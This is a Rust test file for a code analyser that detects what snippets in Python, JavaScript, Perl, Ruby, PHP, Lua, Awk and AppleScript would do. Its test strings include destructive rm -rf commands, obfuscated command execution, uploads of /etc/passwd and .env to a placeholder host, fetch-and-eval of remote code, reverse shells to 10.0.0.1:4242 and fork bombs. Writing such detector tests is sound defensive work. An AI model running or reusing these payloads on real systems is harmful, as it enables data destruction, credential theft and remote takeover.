mod compiled;
mod functions;

use std::fmt::Write as _;

use super::*;
use crate::run::Machine;
use crate::run::testing::line;
use crate::world::Surroundings;

/// Result of code: programs as `$ words`, effects as lines, output after `>`.
fn judged(language: Language, text: &str) -> String {
    let world =
        Surroundings { cwd: Some("/shop"), home: Some("/home/me"), ..Surroundings::default() };
    let mut machine = Machine::new(&world, "");
    let argv = [Field::text("code", Span::default())];
    let mut call = Call {
        machine: &mut machine,
        name: "code",
        argv: &argv,
        span: Span::default(),
        stdin: Stream::default(),
        stdout: Stream::default(),
        index: None,
        ran_other: false,
    };
    let code = Code { text, origin: Origin::Computed(Span::default()) };
    let out = judge(&mut call, language, code);
    let analysis = machine.finish();
    let mut lines: Vec<String> = Vec::new();
    for ran in analysis.commands.iter().filter(|ran| ran.program != "code") {
        let words: Vec<String> = ran.argv.iter().map(Field::shown).collect();
        lines.push(format!("$ {}", words.join(" ")));
    }
    let own = |command: Option<u32>| {
        let ran = command.and_then(|index| analysis.commands.get(index as usize));
        ran.is_none_or(|ran| ran.program == "code")
    };
    lines.extend(analysis.effects.iter().filter(|effect| own(effect.command)).map(line));
    if let Some(text) = out.text.filter(|text| !text.is_empty()) {
        lines.push(format!("> {}", text.trim_end()));
    }
    lines.join(" | ")
}

fn check(language: Language, table: &[(&str, &str)]) {
    let mut wrong = String::new();
    for (code, expected) in table {
        let found = judged(language, code);
        if found != *expected {
            let _ = write!(wrong, "\n{code}\n  expected {expected}\n  found    {found}\n");
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

#[test]
fn python_runs_programs() {
    check(
        Language::Python,
        &[
            ("import os; os.system('rm -rf /x')", "$ rm -rf /x"),
            ("import os as o\no.system(\"rm -rf /x\")", "$ rm -rf /x"),
            ("from os import system as s; s('git reset --hard')", "$ git reset --hard"),
            ("from os import *; system('ls')", "$ ls"),
            ("__import__('os').system('id')", "$ id"),
            ("import importlib; importlib.import_module('os').system('id')", "$ id"),
            ("getattr(__import__('os'), 'sys' + 'tem')('rm -rf ' + '/x')", "$ rm -rf /x"),
            ("import subprocess; subprocess.run(['rm', '-rf', '/x'])", "$ rm -rf /x"),
            ("import subprocess as sp; sp.run('rm -rf /x', shell=True, check=True)", "$ rm -rf /x"),
            (
                "from subprocess import Popen, PIPE\nPopen([\n  'rm',\n  '-rf', '/x',\n])",
                "$ rm -rf /x",
            ),
            ("import subprocess; subprocess.run(['sh'], input='rm -rf /x')", "$ rm -rf /x"),
            ("import subprocess; subprocess.check_call(['make'], cwd='/src')", "$ make"),
            ("c='rm -rf'; p='/x'; import os; os.system(c + ' ' + p)", "$ rm -rf /x"),
            ("import os; os.system(f'rm -rf {chr(47)}x')", "$ rm -rf /x"),
            ("import os; os.system('%s -rf %s' % ('rm', '/x'))", "$ rm -rf /x"),
            ("import os; os.system('{} -rf {}'.format('rm', '/x'))", "$ rm -rf /x"),
            ("import os; os.system(''.join(['r','m',' ','x']))", "$ rm x"),
            ("import os; os.system(''.join(chr(c) for c in [114,109,32,120]))", "$ rm x"),
            ("import os; os.system(''.join(map(chr, [114,109,32,120])))", "$ rm x"),
            ("import os; os.system('x fr- mr'[::-1])", "$ rm -rf x"),
            ("import os; os.system('\\x72\\x6d x')", "$ rm x"),
            ("import os; os.system(bytes([114,109,32,120]).decode())", "$ rm x"),
            (
                "import os, base64; os.system(base64.b64decode('cm0gLXJmIC8=').decode())",
                "$ rm -rf / | execute decoded-code  certain <[Decoded]",
            ),
            (
                "import codecs, os; os.system(codecs.decode('ez k', 'rot13'))",
                "$ rm x | execute decoded-code  certain <[Decoded]",
            ),
            ("import os; os.execvp('rm', ['rm', '-rf', '/x'])", "$ rm -rf /x"),
            ("import os; os.execl('/bin/rm', 'rm', '-rf', '/x')", "$ /bin/rm -rf /x"),
            ("import os; os.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', '/x')", "$ rm -rf /x"),
            (
                "import os\nfor d in ['a', 'b']:\n    os.system('rm -r ' + d)",
                "$ rm -r a | $ rm -r b",
            ),
            ("[__import__('os').system(c) for c in ('ls', 'id')]", "$ ls | $ id"),
            (
                "import threading, os; threading.Thread(target=os.system, args=('id',)).start()",
                "$ id",
            ),
            ("eval(\"__import__('os').system('id')\")", "$ id"),
            ("exec('import os\\nos.system(\"id\")')", "$ id"),
            ("import pty; pty.spawn('/bin/bash')", "$ /bin/bash"),
            ("__import__('os.path').path; __import__('os').system('id')", "$ id"),
        ],
    );
}

#[test]
fn python_changes_files() {
    check(
        Language::Python,
        &[
            ("import os; os.remove('/etc/passwd')", "delete remove /etc/passwd certain"),
            (
                "import shutil; shutil.rmtree('build', ignore_errors=True)",
                "delete remove /shop/build certain -r -f",
            ),
            ("import os; os.rmdir('x')", "delete remove-empty-directory /shop/x certain"),
            (
                "from pathlib import Path; Path('a').joinpath('b').unlink(missing_ok=True)",
                "delete remove /shop/a/b certain",
            ),
            (
                "from pathlib import Path; (Path.home() / '.ssh' / 'id').unlink()",
                "delete remove /home/me/.ssh/id certain",
            ),
            ("import os; os.remove(os.path.expanduser('~/x'))", "delete remove /home/me/x certain"),
            (
                "import os; os.remove(os.path.join(os.environ['HOME'], 'x'))",
                "delete remove /home/me/x certain",
            ),
            (
                "import os, glob\nfor f in glob.glob('/logs/*.log'):\n  os.remove(f)",
                "delete remove /logs/*.log possible",
            ),
            (
                "import os,glob; [os.remove(f) for f in glob.glob('*.tmp')]",
                "delete remove /shop/*.tmp possible",
            ),
            ("import os; os.remove(name)", "delete remove name possible"),
            (
                "import os\nfor r, d, f in os.walk('/x'):\n  for n in f: os.remove(os.path.join(r, n))",
                "delete remove /x/**/… possible",
            ),
            ("open('/etc/hosts', 'w').write('x')", "overwrite write-file /etc/hosts certain"),
            (
                "with open('log', 'a') as f:\n    f.write('x')",
                "append append-file /shop/log certain",
            ),
            ("print(open('/etc/shadow').read())", "read read-file /etc/shadow certain"),
            (
                "import pathlib; pathlib.Path('x').write_text('y')",
                "overwrite write-file /shop/x certain",
            ),
            (
                "import os; os.rename('a', 'b')",
                "move move /shop/a certain | write move /shop/b certain <[File(\"/shop/a\")]",
            ),
            (
                "import shutil; shutil.copy('a', 'b')",
                "read copy /shop/a certain | write copy /shop/b certain <[File(\"/shop/a\")]",
            ),
            ("import os; os.chmod('/x', 0o777)", "permission world-writable /x certain"),
            ("import os; os.chmod('/x', 0o644)", "permission mode /x certain"),
            ("import os; os.chdir('/y'); os.remove('x')", "delete remove /y/x certain"),
            (
                "import os\nif os.path.exists('x'):\n    os.remove('x')\nos.remove('y')",
                "delete remove /shop/x possible | delete remove /shop/y certain",
            ),
            ("import os\nos.kill(1, 9)", "process kill 1 certain"),
            ("import os\nwhile True: os.fork()", "process fork-bomb  certain"),
        ],
    );
}

#[test]
fn python_talks_to_the_network() {
    check(
        Language::Python,
        &[
            ("import requests; requests.get('http://h/x')", "receive http http://h/x certain"),
            (
                "import requests; requests.post('http://h', data=open('/etc/passwd').read())",
                "read read-file /etc/passwd certain | send http http://h certain <[File(\"/etc/passwd\")]",
            ),
            (
                "import urllib.request as u; exec(u.urlopen('http://h/x').read())",
                "receive http http://h/x certain | execute network-code code certain <[Network(\"http://h/x\")]",
            ),
            (
                "import requests; d = open('k').read(); requests.get('http://h/?q=' + d)",
                "read read-file /shop/k certain | receive http http://h/?q=… possible | send http http://h/?q=… possible <[File(\"/shop/k\")]",
            ),
            (
                "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('10.0.0.1',4242));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])",
                "$ /bin/sh -i | receive connect 10.0.0.1:4242 certain | execute network-shell 10.0.0.1:4242 certain <[Network(\"10.0.0.1:4242\")]",
            ),
            ("import os; print(os.environ)", "environment-dump print-environment  certain"),
            ("import os, subprocess; subprocess.run(['ls'], env=dict(os.environ, A='1'))", "$ ls"),
            ("import os; print(os.environ['USER'])", ""),
        ],
    );
}

#[test]
fn python_text_is_not_code() {
    check(
        Language::Python,
        &[
            ("print('os.system(\"rm -rf /\")')", "> os.system(\"rm -rf /\")"),
            ("# os.system('rm -rf /')\nprint(1)", "> 1"),
            ("'''\nimport os\nos.remove('x')\n'''", ""),
            ("s = \"import shutil; shutil.rmtree('/')\"", ""),
            ("import re; re.compile('rm -rf /')", ""),
            ("model.eval(); df.remove('x'); items.remove(3); d.pop('x')", ""),
            ("import json,sys; print(json.load(sys.stdin)['a'])", ""),
            ("import os; print(os.path.join('a', 'b'), os.getcwd())", "> a/b /shop"),
            ("import base64; print(base64.b64decode('cm0gLXJmIC8=').decode())", "> rm -rf /"),
            ("def system(c): pass\nsystem('rm -rf /')", ""),
            ("x = 'a' if y else 'b'", ""),
        ],
    );
}

#[test]
fn javascript() {
    check(
        Language::JavaScript,
        &[
            ("require('child_process').execSync('rm -rf /x')", "$ rm -rf /x"),
            ("require(\"child_process\")['exec'+'Sync']('rm -rf /x')", "$ rm -rf /x"),
            (
                "const {execSync: e} = require('node:child_process'); e(`rm -rf ${'/x'}`)",
                "$ rm -rf /x",
            ),
            ("const cp = require('child_process'); cp.spawn('rm', ['-rf', '/x'])", "$ rm -rf /x"),
            (
                "import {spawnSync} from 'child_process'; spawnSync('rm -rf /x', {shell: true})",
                "$ rm -rf /x",
            ),
            (
                "import * as cp from 'node:child_process'\ncp.exec('id', (e, out) => console.log(out))",
                "$ id",
            ),
            ("process.mainModule.require('child_process').exec('id')", "$ id"),
            ("global.process.mainModule.require('child_process').execFileSync('id')", "$ id"),
            (
                "require('fs').rmSync('/x', {recursive: true, force: true})",
                "delete remove /x certain -r -f",
            ),
            (
                "const fs = require('fs'); fs.unlinkSync('a'); fs.rmdirSync('b', {recursive:true})",
                "delete remove /shop/a certain | delete remove /shop/b certain -r",
            ),
            (
                "import('fs/promises').then(m => m.rm('/x', {recursive: true}))",
                "delete remove /x certain -r",
            ),
            (
                "import fs from 'node:fs'; await fs.promises.unlink('a')",
                "delete remove /shop/a certain",
            ),
            (
                "const fs=require('fs');fs.readdirSync('.').forEach(f => fs.unlinkSync('./d/' + f))",
                "delete remove /shop/d/… possible",
            ),
            ("require('fs').writeFileSync('a', 'b')", "overwrite write-file /shop/a certain"),
            ("require('fs').appendFileSync('a', 'b')", "append append-file /shop/a certain"),
            (
                "console.log(require('fs').readFileSync('/etc/shadow','utf8'))",
                "read read-file /etc/shadow certain",
            ),
            (
                "fetch('http://h/x').then(r => r.text()).then(eval)",
                "receive http http://h/x certain | execute network-code code certain <[Network(\"http://h/x\")]",
            ),
            (
                "fetch('http://h', {method: 'POST', body: require('fs').readFileSync('.env')})",
                "read read-file /shop/.env certain | send http http://h certain <[File(\"/shop/.env\")]",
            ),
            (
                "eval(Buffer.from('cmVxdWlyZSgnZnMnKS51bmxpbmtTeW5jKCdhJyk=', 'base64').toString())",
                "delete remove /shop/a certain | execute decoded-code  certain <[Decoded]",
            ),
            (
                "new Function('require(\"fs\").unlinkSync(\"a\")')()",
                "delete remove /shop/a certain",
            ),
            ("require('child_process').exec(String.fromCharCode(105,100))", "$ id"),
            ("Bun.$`rm -rf /x`", "$ rm -rf /x"),
            ("Deno.removeSync('/x', {recursive: true})", "delete remove /x certain -r"),
            ("new Deno.Command('rm', {args: ['-rf', '/x']}).outputSync()", "$ rm -rf /x"),
            ("console.log(process.env)", "environment-dump print-environment  certain"),
            ("console.log(process.env.HOME)", "> /home/me"),
            ("const m = /a(b)/.exec('rm -rf /'); console.log(m)", ""),
            ("// require('fs').unlinkSync('a')\n/* eval('x') */ console.log('rm')", "> rm"),
            ("const s = 'require(\"child_process\").exec(\"id\")'", ""),
            ("console.log(JSON.stringify({a: 1}))", ""),
            ("if (x) { require('fs').unlinkSync('a') }", "delete remove /shop/a possible"),
            (
                "var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var c=new net.Socket();c.connect(4242,'10.0.0.1',function(){c.pipe(sh.stdin)})",
                "$ /bin/sh | receive connect 10.0.0.1:4242 certain | execute network-shell 10.0.0.1:4242 certain <[Network(\"10.0.0.1:4242\")]",
            ),
        ],
    );
}

#[test]
fn perl() {
    check(
        Language::Perl,
        &[
            ("system(\"rm -rf /x\")", "$ rm -rf /x"),
            ("system 'rm', '-rf', '/x';", "$ rm -rf /x"),
            ("exec qw(rm -rf /x)", "$ rm -rf /x"),
            ("print `id`", "$ id"),
            ("my $o = qx{rm -rf /x};", "$ rm -rf /x"),
            ("$c='rm'; $d=\"-rf\"; system(\"$c $d /x\")", "$ rm -rf /x"),
            ("system('r' . 'm x')", "$ rm x"),
            ("unlink 'a', 'b'", "delete remove /shop/a certain | delete remove /shop/b certain"),
            ("unlink glob('*.o')", "delete remove /shop/*.o possible"),
            ("unlink <*.o>", "delete remove /shop/*.o possible"),
            ("unlink $_ for <*.o>", "delete remove /shop/*.o possible"),
            ("use File::Path; rmtree('/x')", "delete remove /x certain -r"),
            (
                "use File::Path qw(remove_tree); remove_tree('/x', '/y');",
                "delete remove /x certain -r | delete remove /y certain -r",
            ),
            ("open(F, '>', '/etc/hosts'); print F 'x'", "overwrite write-file /etc/hosts certain"),
            ("sysopen(F, '/etc/hosts', O_WRONLY)", "overwrite write-file /etc/hosts certain"),
            ("sysopen(F, 'a', O_RDONLY)", "read read-file /shop/a certain"),
            ("open(F, \">>log\")", "append append-file /shop/log certain"),
            ("open(my $f, '<', '/etc/shadow'); print <$f>", "read read-file /etc/shadow certain"),
            ("open(P, 'rm -rf /x |')", "$ rm -rf /x"),
            (
                "rename 'a', 'b'",
                "move move /shop/a certain | write move /shop/b certain <[File(\"/shop/a\")]",
            ),
            (
                "chmod 0777, 'a', 'b'",
                "permission world-writable /shop/a certain | permission world-writable /shop/b certain",
            ),
            ("kill 9, 1", "process kill 1 certain"),
            ("fork while fork", "process fork-bomb  certain"),
            ("while(1){fork}", "process fork-bomb  certain"),
            ("eval 'system(\"id\")'", "$ id"),
            ("eval { die }; print 'x'", "> x"),
            ("print join(' ', sort keys %ENV)", "environment-dump print-environment  certain"),
            ("s/rm -rf/x/g; print if m{system(.)}", ""),
            ("print \"system('rm')\"; # unlink 'x'", "> system('rm')"),
            ("@a = ('rm', '-rf', '/x'); system(@a)", "$ rm -rf /x"),
        ],
    );
}

#[test]
fn ruby() {
    check(
        Language::Ruby,
        &[
            ("system(\"rm -rf /x\")", "$ rm -rf /x"),
            ("system 'rm', '-rf', '/x'", "$ rm -rf /x"),
            ("`rm -rf /x`", "$ rm -rf /x"),
            ("%x(rm -rf /x)", "$ rm -rf /x"),
            ("d = '/x'; puts `rm -rf #{d}`", "$ rm -rf /x"),
            ("exec \"id\"", "$ id"),
            ("Kernel.system('id')", "$ id"),
            ("IO.popen(['id', '-u'])", "$ id -u"),
            ("require 'open3'; Open3.capture2('id')", "$ id"),
            ("open('|id')", "$ id"),
            ("send(:system, 'id')", "$ id"),
            ("FileUtils.rm_rf('/x')", "delete remove /x certain -r"),
            (
                "require 'fileutils'; FileUtils.rm_rf %w[a b]",
                "delete remove /shop/a certain -r | delete remove /shop/b certain -r",
            ),
            (
                "File.delete('a', 'b')",
                "delete remove /shop/a certain | delete remove /shop/b certain",
            ),
            ("Dir.glob('*.o').each { |f| File.delete(f) }", "delete remove /shop/*.o possible"),
            ("Dir['*.o'].each do |f|\n  File.unlink f\nend", "delete remove /shop/*.o possible"),
            ("File.write('a', 'b')", "overwrite write-file /shop/a certain"),
            ("File.open('a', 'w') { |f| f.puts 'x' }", "overwrite write-file /shop/a certain"),
            ("puts File.read('/etc/shadow')", "read read-file /etc/shadow certain"),
            (
                "require 'net/http'; eval(Net::HTTP.get(URI('http://h/x')))",
                "receive http http://h/x certain | execute network-code code certain <[Network(\"http://h/x\")]",
            ),
            ("puts ENV.to_h", "environment-dump print-environment  certain"),
            ("puts ENV['HOME']", "> /home/me"),
            (
                "eval('c3lzdGVtICdpZCc='.unpack1('m'))",
                "$ id | execute decoded-code  certain <[Decoded]",
            ),
            ("puts 'system(\"rm -rf /\")'", "> system(\"rm -rf /\")"),
            ("[1,2].each { |x| puts x }", ""),
            ("a = [1]; a.delete(1)", ""),
        ],
    );
}

#[test]
fn php() {
    check(
        Language::Php,
        &[
            ("system('rm -rf /x');", "$ rm -rf /x"),
            ("echo shell_exec(\"rm -rf /x\");", "$ rm -rf /x"),
            ("$d = '/x'; exec(\"rm -rf $d\");", "$ rm -rf /x"),
            ("`id`;", "$ id"),
            ("$f = 'sys'.'tem'; $f('id');", "$ id"),
            ("call_user_func('system', 'id');", "$ id"),
            ("unlink('a');", "delete remove /shop/a certain"),
            ("array_map('unlink', glob('/x/*'));", "delete remove /x/* possible"),
            ("foreach (glob('*.o') as $f) { unlink($f); }", "delete remove /shop/*.o possible"),
            ("file_put_contents('a', 'b');", "overwrite write-file /shop/a certain"),
            (
                "eval(file_get_contents('http://h/x'));",
                "receive http http://h/x certain | execute network-code code certain <[Network(\"http://h/x\")]",
            ),
            (
                "eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));",
                "$ id | execute decoded-code  certain <[Decoded]",
            ),
            ("echo file_get_contents('/etc/shadow');", "read read-file /etc/shadow certain"),
            ("echo 'system(1)'; // unlink('a')", "> system(1)"),
            ("echo date('Y');", ""),
        ],
    );
}

#[test]
fn lua_and_others() {
    check(
        Language::Lua,
        &[
            ("os.execute('rm -rf /x')", "$ rm -rf /x"),
            ("os.execute [[rm -rf /x]]", "$ rm -rf /x"),
            ("io.popen('id'):read('*a')", "$ id"),
            ("os['exe'..'cute']('id')", "$ id"),
            ("os.remove('a')", "delete remove /shop/a certain"),
            ("load('os.execute(\"id\")')()", "$ id"),
            ("io.open('a','w'):write('x')", "overwrite write-file /shop/a certain"),
            ("-- os.remove('a')\nprint('x')", "> x"),
        ],
    );
    check(
        Language::Other,
        &[
            ("system(\"rm -rf /x\")", "$ rm -rf /x"),
            ("(shell-command \"rm -rf /x\")", "$ rm -rf /x"),
            ("(call-process \"rm\" nil nil nil \"-rf\" \"/x\")", "$ rm -rf /x"),
            ("System.cmd(\"rm\", [\"-rf\", \"/x\"])", "$ rm -rf /x"),
            ("os:cmd(\"rm -rf /x\").", "$ rm -rf /x"),
            ("run(`rm -rf /x`)", "$ rm -rf /x"),
            ("println \"rm -rf /x\".execute().text", "$ rm -rf /x"),
            ("import sys.process._; \"rm -rf /x\".!", "$ rm -rf /x"),
            ("unlink('build', recursive=TRUE)", "delete remove /shop/build certain -r"),
            ("rm(list=ls())", ""),
            ("File.rm_rf!(\"/x\")", "delete remove /x certain -r"),
            ("Runtime.getRuntime().exec(\"id\")", "$ id"),
            ("x <- 1; print(x)", "> 1"),
        ],
    );
}

#[test]
fn awk() {
    check(
        Language::Awk,
        &[
            ("BEGIN { system(\"rm -rf /x\") }", "$ rm -rf /x"),
            ("BEGIN { system(\"rm\\040-rf\\x20/x\") }", "$ rm -rf /x"),
            ("BEGIN { c = \"rm -rf\"; system(c \" /x\") }", "$ rm -rf /x"),
            ("{ system(\"rm \" $1) }", "$ rm …"),
            ("{ system($0) }", "execute dynamic-code … unknown"),
            ("BEGIN { print \"x\" | \"git reset --hard\" }", "$ git reset --hard"),
            ("BEGIN { print \"rm -rf /x\" | \"sh\" }", "$ rm -rf /x"),
            ("BEGIN { \"id -u\" | getline u; print u }", "$ id -u"),
            ("BEGIN { while ((\"ls\" | getline f) > 0) print f }", "$ ls"),
            ("{ print $1 > \"out\" }", "overwrite write-file /shop/out certain"),
            ("{ print >> \"out\" }", "append append-file /shop/out certain"),
            ("{ print > \"/dev/stderr\" }", ""),
            (
                "BEGIN { while ((getline l < \"/etc/shadow\") > 0) print l }",
                "read read-file /etc/shadow certain",
            ),
            ("BEGIN { print \"rm -rf /\" }", "> rm -rf /"),
            ("/rm -rf/ { print }", ""),
            ("$1 > 5 { n++ } END { print n }", ""),
            ("# system(\"rm\")\n{ print \"system(1)\" }", ""),
            ("{ gsub(/\\/\\//, \"\"); if ($2 == \"x\" || $3 ~ /y/) print $2 }", ""),
        ],
    );
}

#[test]
fn applescript() {
    check(
        Language::AppleScript,
        &[
            ("do shell script \"rm -rf /x\"", "$ rm -rf /x"),
            (
                "do shell script \"rm -rf /x\" with administrator privileges",
                "$ rm -rf /x | privilege run-as root certain",
            ),
            ("set c to \"rm -rf \"\ndo shell script c & \"/x\"", "$ rm -rf /x"),
            ("tell application \"Terminal\" to do script \"rm -rf /x\"", "$ rm -rf /x"),
            ("tell application \"Finder\" to delete POSIX file \"/x\"", "delete remove /x certain"),
            ("tell application \"Finder\" to empty trash", "delete empty-trash trash certain"),
            ("tell application \"System Events\" to keystroke \"x\"", "process type-keys  certain"),
            ("display notification \"do shell script\" with title \"rm -rf /\"", ""),
            ("tell application \"Safari\" to activate", ""),
        ],
    );
}

#[test]
fn nesting_beyond_the_limit_is_said() {
    let world = Surroundings { language: Language::Python, ..Surroundings::default() };
    let deep = |levels: usize| {
        let text =
            format!("{}__import__('os').remove('x'){}", "(".repeat(levels), ")".repeat(levels));
        crate::analyze(&text, &world)
    };
    assert_eq!(deep(12).effects.len(), 1);
    assert!(deep(12).unverified.is_empty());
    assert_eq!(deep(4000).unverified.len(), 1);
}

#[test]
fn broken_code_of_any_language_is_survived() {
    let pieces = [
        "(",
        "[",
        "{",
        "'",
        "\"",
        "`",
        "<<A\n",
        "f'{",
        "${",
        "#{",
        "@{[",
        "q(",
        "s/",
        "%x(",
        "[[",
        "/*",
        "\\",
        "é'",
        "for x in ",
        "[a for a in ",
        "if (",
        "a=a+a\n",
        "x.y.",
        "=>",
        "?",
        "$(",
        "@'\n",
        "[x]::",
        "for %i in (",
        "%",
        "^",
        "fn f(a: b) {",
        "int f(a b) {",
        "f(g(",
        "[a b:",
        "(let ((a ",
        "r#\"",
        "\"\\(",
        "(a*)",
        "for (a b : ",
        "a b = ",
    ];
    for language in [
        Language::Python,
        Language::JavaScript,
        Language::Perl,
        Language::Ruby,
        Language::Php,
        Language::Lua,
        Language::AppleScript,
        Language::Awk,
        Language::Other,
        Language::Go,
        Language::Rust,
        Language::C,
        Language::Swift,
        Language::Jvm,
        Language::DotNet,
        Language::Julia,
        Language::Lisp,
        Language::Nim,
        Language::VbScript,
        Language::PowerShell,
        Language::Cmd,
    ] {
        let world = Surroundings { language, ..Surroundings::default() };
        for first in pieces {
            for second in ["", "x", "(", "'", "\n"] {
                let text = format!("{first}{second}").repeat(200);
                let work = crate::analyze(&text, &world).work;
                assert!(work <= crate::budget::MAX_WORK * 2, "{language:?} {first:?}");
            }
        }
    }
}
